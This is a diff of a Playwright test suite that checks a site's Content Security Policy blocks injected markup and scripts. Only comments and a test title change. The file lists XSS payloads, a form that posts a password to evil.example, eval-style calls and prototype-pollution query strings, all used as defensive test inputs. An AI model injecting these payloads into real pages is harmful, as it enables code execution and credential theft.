@@ -2,14 +2,14 @@ import type { Page } from "@playwright/test";
 import { every } from "../full";
 import { alive, everyPage, expect, paths, test } from "./fixtures";
 
-/** Another origin, which would answer everything it is asked, and with code that does harm. */
+/** The attacker's origin. It responds to every request with malicious code. */
 const evil = "https://evil.example";
 
-/** What Chromium says of everything that the policy stops. */
+/** Chromium's console errors for everything that the policy blocks. */
 const stopped =
 	/Content Security Policy|requires 'Trusted\w+' assignment|violates the following|Failed to (execute|construct|load resource)|Framing '|ERR_BLOCKED_BY_(CSP|RESPONSE)/;
 
-/** Markup that an attacker has got into the page, and the directive that stops each piece. */
+/** Injected markup, and the directive that blocks each piece. */
 const markup: Record<string, string> = {
 	"<script>hacked('inline script')</script>": "script-src-elem inline",
 	[`<script src="${evil}/a.js"></script>`]: `script-src-elem ${evil}/a.js`,
@@ -26,14 +26,14 @@ const markup: Record<string, string> = {
 	[`<object data="${evil}/object"></object>`]: `object-src ${evil}`,
 	"<embed src='https://embed.evil.example/embed'>": "object-src https://embed.evil.example",
 	[`<video src="${evil}/video.mp4"></video>`]: `media-src ${evil}/video.mp4`,
-	// Acted on by the script below.
+	// The script below clicks and submits these two.
 	"<a id='attack-link' href=\"javascript:hacked('link')\">link</a>": "script-src-elem inline",
 	[`<form id='attack-form' method="post" action="${evil}/form"><input name="password"></form>`]: `form-action ${evil}/form`,
-	// It takes the page's policy over: what it holds is stopped inside it.
+	// An srcdoc iframe inherits the page's policy.
 	"<iframe srcdoc='<script>parent.hacked(\"srcdoc\")</script>'></iframe>": "script-src-elem inline",
 };
 
-/** Harm tried by a script of the site's own origin, and the directive that stops each. */
+/** Attacks by a script from the site's own origin, and the directive that blocks each. */
 const doings: Record<string, string> = {
 	"eval(\"hacked('eval')\")": "script-src eval",
 	"new Function(\"hacked('Function')\")()": "script-src eval",
@@ -62,11 +62,11 @@ const doings: Record<string, string> = {
 	"document.getElementById('attack-form').submit()": `form-action ${evil}/form`,
 };
 
-/** Values in an address that pollute every object where they are read carelessly. */
+/** Query parameters that cause prototype pollution in careless parsers. */
 const pollution =
 	"__proto__[polluted]=1&__proto__.polluted=1&constructor[prototype][polluted]=1&constructor.prototype.polluted=1";
 
-/** Puts markup into each document of a path, where the site has none of its own. */
+/** Injects markup into the documents of a path. */
 async function inject(page: Page, path: string, where: "<head>" | "<body>", html: string) {
 	await page.route(
 		(url) => url.pathname === path,
@@ -83,7 +83,7 @@ interface Watched {
 	violations: string[];
 }
 
-/** Notices every piece of the attacker's code that runs, and everything that the policy stops. */
+/** Records all attacker's code that runs, and all policy violations. */
 async function watch(page: Page) {
 	const reached: string[] = [];
 	await page.context().route(
@@ -114,7 +114,7 @@ async function watch(page: Page) {
 }
 
 for (const path of every(everyPage, ["/get-started", "/no-such-page"])) {
-	test(`${path}: injected markup and script run nothing, change nothing and reach nobody`, async ({
+	test(`${path}: injected markup and scripts can't run code, change the page or send data`, async ({
 		page,
 		problems,
 		baseURL,
@@ -149,7 +149,7 @@ for (const path of every(everyPage, ["/get-started", "/no-such-page"])) {
 		expect((await watched()).hacks).toEqual([]);
 
 		expect(reached).toEqual([]);
-		// In one go, and not by locators: Playwright takes the stopped form for a navigation under way.
+		// A single evaluate, because Playwright's locators would wait for the blocked form's navigation.
 		expect(
 			await page.evaluate(() => ({
 				address: location.href,
